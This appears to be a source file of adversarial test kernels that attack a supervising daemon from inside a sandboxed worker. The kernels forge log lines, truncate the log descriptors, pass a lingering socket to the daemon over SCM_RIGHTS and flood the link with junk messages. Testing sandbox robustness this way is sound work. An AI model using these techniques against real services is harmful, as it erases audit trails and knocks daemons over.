// Attacks on the daemon itself: over the worker's link, and through what the worker holds of it.

// words: text. Writes it to the first descriptors, as a line of its own, and cuts the file behind them to nothing.
kernel void forge_log(global char* words, global long* out) {
  for (long fd = 1; fd < 3; ++fd) {
    out[fd] = sys3(SYS_write, fd, word(words, 0), length(word(words, 0)));
    sys3(SYS_write, fd, text_of("\n"), 1);
  }
}
kernel void cut_log(global char* words, global long* out) {
  for (long fd = 1; fd < 3; ++fd) {
    const long path = text_of("/proc/self/fd/");
    append_number(path, fd);
    out[fd] = sys2(SYS_ftruncate, fd, 0);
    const long again = sys3(SYS_open, path, 01001, 0);  // O_WRONLY | O_TRUNC
    out[fd + 2] = again;
  }
}

long message_with(long room, long bytes, long fd) {
  Q(room + 16) = room + 64, Q(room + 24) = 1;
  Q(room + 64) = room + 16384, Q(room + 72) = bytes;
  if (fd >= 0) {
    Q(room + 32) = room + 4096, Q(room + 40) = 24;
    Q(room + 4096) = 20, W(room + 4104) = 1, W(room + 4108) = 1, W(room + 4112) = (uint)fd;  // SCM_RIGHTS
  }
  return room;
}

// words: port, seconds. A connection that lingers when it is closed goes to the daemon, which must close it.
kernel void send_lingering(global char* words, global long* out) {
  const long made = connected_to_port(number(words, 0)), room = memory(65536), full = memory(1 << 20);
  out[0] = made;
  if (made < 0) return;
  long linger = 1 | number(words, 1) << 32;
  out[1] = sys5(SYS_setsockopt, made, 1, 13, (long)&linger, 8);
  while (sys6(SYS_sendto, made, full, 1 << 20, 0x40, 0, 0) > 0) ++out[2];  // MSG_DONTWAIT
  out[3] = sys3(SYS_sendmsg, 3, message_with(room, 64, made), 0);
  out[4] = sys1(SYS_close, made);
}

// words: how many, bytes of each. Messages without meaning over the link.
kernel void flood_link(global char* words, global long* out) {
  const long room = memory(65536);
  for (long i = 0; i < number(words, 0); ++i) {
    Q(room + 16384) = i * 0x9E3779B97F4A7C15;
    const long sent = sys3(SYS_sendmsg, 3, message_with(room, number(words, 1), -1), 0x4000);  // MSG_NOSIGNAL
    if (sent < 0) out[1] = sent;
    else ++out[0];
    if (sent == -32) break;  // EPIPE
  }
}
